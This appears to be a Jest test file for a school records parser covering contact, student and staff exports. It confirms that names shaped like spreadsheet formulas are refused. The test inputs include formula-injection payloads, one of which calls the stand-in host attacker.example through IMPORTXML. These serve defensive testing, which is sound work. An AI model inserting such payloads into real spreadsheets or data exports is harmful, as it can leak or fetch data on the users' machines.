/**
 * The Contacts tab from SIMS- and Arbor-style contact exports (SPEC §2, issue 16), and names that
 * look like formulas refused wherever a person's name is read.
 */
import { parseTab } from '../../../src/core/records/parse';
import { U1, U2 } from './fixtures';

describe('Contacts', () => {
  it('reads an Arbor-style guardians export (split names, "Has Parental Responsibility")', () => {
    const res = parseTab('Contacts', [
      ['Student UPN', 'Student First Name', 'Guardian Title', 'Guardian First Name', 'Guardian Last Name', 'Relationship to Student',
        'Has Parental Responsibility', 'Contact Priority', 'Email Address', 'Lives With Student', 'Address'],
      [U1, 'Amy', 'Mrs', 'Jane', 'Jones', 'Mother', 'Yes', '1', 'JANE@Example.org', 'Y', '1 High St, Town, AB1 2CD'],
      [U1, 'Amy', 'Mr', 'Tom', 'Jones', 'Father', 'No', '2', '', 'N', '9 Low Rd, Town'],
    ]);
    expect(res.refusals).toEqual([]);
    expect(res.unknownHeaders).toEqual(['Student First Name']); // the pupil's name is not the contact's
    expect(res.records).toEqual([
      { upn: U1, name: 'Jane Jones', forename: 'Jane', surname: 'Jones', title: 'Mrs', relationship: 'Mother', parentalResponsibility: true,
        priority: 1, address: '1 High St, Town, AB1 2CD', email: 'jane@example.org', livesWithPupil: true, salutation: '', correspondence: null },
      { upn: U1, name: 'Tom Jones', forename: 'Tom', surname: 'Jones', title: 'Mr', relationship: 'Father', parentalResponsibility: false,
        priority: 2, address: '9 Low Rd, Town', email: '', livesWithPupil: false, salutation: '', correspondence: null },
    ]);
  });

  it('reads a SIMS-style export (Contact Name, Parental Resp, Salutation); blank flags are "not stated"', () => {
    const res = parseTab('Contacts', [
      ['UPN', 'Contact Name', 'Relationship', 'Parental Resp', 'Priority', 'Salutation', 'Receives Correspondence'],
      [U2, 'Ms K Patel', 'Aunt', '', '', 'Dear Ms Patel', 'No'],
    ]);
    expect(res.records[0]).toMatchObject({ upn: U2, name: 'Ms K Patel', parentalResponsibility: null, priority: null, salutation: 'Dear Ms Patel', correspondence: false });
  });

  it('refuses, naming row, column and value: no name, a formula name, priority 0, a bad e-mail, the same contact twice', () => {
    const res = parseTab('Contacts', [
      ['UPN', 'Contact Name', 'Priority', 'Email'],
      [U1, '', '1', ''],
      [U1, '=HYPERLINK("http://x","Mum")', '1', ''],
      [U1, 'Jane Jones', '0', ''],
      [U2, 'Jane Jones', '1', 'jane@'],
      [U2, 'Raj Patel', '1', ''],
      [U2, 'Raj Patel', '2', ''],
    ]);
    expect(res.refusals.map((r) => [r.row, r.column, r.value])).toEqual([
      [2, 'Name', ''],
      [3, 'Name', '=HYPERLINK("http://x","Mum")'],
      [4, 'Priority', '0'],
      [5, 'Email', 'jane@'],
      [7, 'UPN', `${U2}, Raj Patel`],
    ]);
    expect(res.records.map((r) => r.name)).toEqual(['Raj Patel']);
  });

  it('a file with no contact name column stops, naming what it looked for', () => {
    const res = parseTab('Contacts', [['UPN', 'Relationship'], [U1, 'Mother']]);
    expect(res.headerMessages).toEqual([expect.stringMatching(/^Contacts: no contact name column \(looked for Name, Contact Name/)]);
    expect(res.records).toEqual([]);
  });
});

describe('names that are formulas', () => {
  it.each(['=IMPORTXML("http://attacker.example/x","//a")', '+447700900123', '-Smith', '@handle', ' =1+1'])('"%s" as a surname is refused', (surname) => {
    const res = parseTab('Students', [['UPN', 'Forename', 'Surname', 'Year', 'Reg Group'], [U1, 'Ann', surname, '9', '9X']]);
    expect(res.refusals).toEqual([{ row: 2, column: 'Surname', value: surname, reason: 'looks like a spreadsheet formula, not a name — correct it in the MIS and export again.' }]);
  });

  it('names with apostrophes, hyphens inside and accents are names', () => {
    const res = parseTab('Students', [['UPN', 'Forename', 'Surname', 'Year', 'Reg Group'], [U1, 'Zoë', "O'Brien-Smith", '9', '9X']]);
    expect(res.records[0]).toMatchObject({ forename: 'Zoë', surname: "O'Brien-Smith" });
  });

  it('a member of staff named like a formula is refused; the Staff tab keeps the rest', () => {
    const res = parseTab('Staff', [['Name', 'Email', 'Role'], ['=A1', 'a@school.sch.uk', 'Teacher'], ['Ann Lee', 'ann@school.sch.uk', 'Teacher']]);
    expect(res.refusals.map((r) => [r.row, r.column])).toEqual([[2, 'Name']]);
    expect(res.records.map((r) => r.email)).toEqual(['ann@school.sch.uk']);
  });
});
